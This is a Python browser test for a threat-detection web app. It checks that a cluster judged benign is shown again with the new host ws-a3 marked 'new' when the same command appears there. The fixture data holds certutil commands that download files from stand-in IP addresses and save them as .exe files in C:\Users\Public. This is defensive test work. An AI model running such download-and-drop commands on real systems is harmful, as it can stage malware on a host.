"""A judged group's act spreading to hosts nobody judged shows again, and its page marks those hosts new (HOSTF4 #1,
js/host_finding.js; the API's ``host_finding.new_hosts``, analytics/host_finding_words.py).

In Chromium against the real service: one certutil download on ws-a1 and ws-a2 is judged benign; the same download
then runs on ws-a3, so the group shows again on three hosts, ws-a3 marked new.  Another download on ws-c1 and ws-c2,
never judged, shows with no host marked.  Before, the page listed the three hosts alike (only the summary named
ws-a3).  Host names are attacker-influenced: text nodes only.
"""

from __future__ import annotations

import pytest

from tests.web.conftest import start_site
from tests.web.queue_helpers import sign_in_to_queue
from tests.web.support import process_creation

pytestmark = pytest.mark.browser

JUDGED = "certutil.exe -urlcache -split -f https://203.0.113.9/p.txt C:\\Users\\Public\\p.exe"
NEVER_JUDGED = "certutil.exe -urlcache -split -f https://198.51.100.7/q.txt C:\\Users\\Public\\q.exe"


def _post(site, events: list[dict]) -> None:
    assert site.post_events(events)["accepted"] == len(events)
    site.wait_until_projected()


def _finding_on(site, host: str) -> dict:
    [case] = [c for c in site.api("GET", "/v1/clusters")["items"] if host in c["hosts"]]
    return case


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    with start_site(tmp_path_factory.mktemp("host-new")) as running:
        _post(running, [process_creation(host, n, f"2026-11-02T10:0{n}:00.000Z", command)
                        for n, (host, command) in enumerate([("ws-a1", JUDGED), ("ws-a2", JUDGED),
                                                             ("ws-c1", NEVER_JUDGED), ("ws-c2", NEVER_JUDGED)], 1)])
        running.detect()
        judged = _finding_on(running, "ws-a1")
        assert judged["hosts"] == ["ws-a1", "ws-a2"]
        running.api("PATCH", f"/v1/clusters/{judged['id']}", json={"verdict": "benign"})
        _post(running, [process_creation("ws-a3", 5, "2026-11-02T10:05:00.000Z", JUDGED)])
        running.detect()
        yield running


def _open(page, site, case: dict) -> None:
    sign_in_to_queue(page, site)
    page.click(f"#queue-body tr[data-cluster-id='{case['id']}']")
    page.wait_for_selector("body[data-state=cluster-ready]")


def _hosts(page) -> list[tuple[str, bool, str]]:
    """Each listed host: its name, whether the li says new, and the li's whole text."""
    return [tuple(row) for row in page.eval_on_selector_all(
        "#cluster-host-finding .host-finding-hosts li",
        "items => items.map(li => [li.dataset.host, li.hasAttribute('data-new'),"
        " li.textContent])")]


def test_a_judged_group_on_a_new_host_marks_that_host_new(page, site):
    case = _finding_on(site, "ws-a3")
    assert case["hosts"] == ["ws-a1", "ws-a2", "ws-a3"]
    assert site.api("GET", f"/v1/clusters/{case['id']}")["host_finding"]["new_hosts"] == ["ws-a3"]
    _open(page, site, case)
    assert _hosts(page) == [("ws-a1", False, "ws-a1"), ("ws-a2", False, "ws-a2"), ("ws-a3", True, "newws-a3")]
    assert page.eval_on_selector_all("#cluster-host-finding .host-finding-new",
                                     "marks => marks.map(m => m.closest('li').dataset.host)") == ["ws-a3"]
    assert page.text_content("#cluster-host-finding .host-finding-new-hosts") == (
        "1 of these 3 hosts was not judged before, marked new.")
    assert page.watch.errors == []


def test_a_group_nobody_judged_marks_no_host(page, site):
    case = _finding_on(site, "ws-c1")
    assert case["hosts"] == ["ws-c1", "ws-c2"]
    assert not site.api("GET", f"/v1/clusters/{case['id']}")["host_finding"].get("new_hosts")
    _open(page, site, case)
    assert _hosts(page) == [("ws-c1", False, "ws-c1"), ("ws-c2", False, "ws-c2")]
    assert page.query_selector("#cluster-host-finding .host-finding-new") is None
    assert page.query_selector("#cluster-host-finding .host-finding-new-hosts") is None
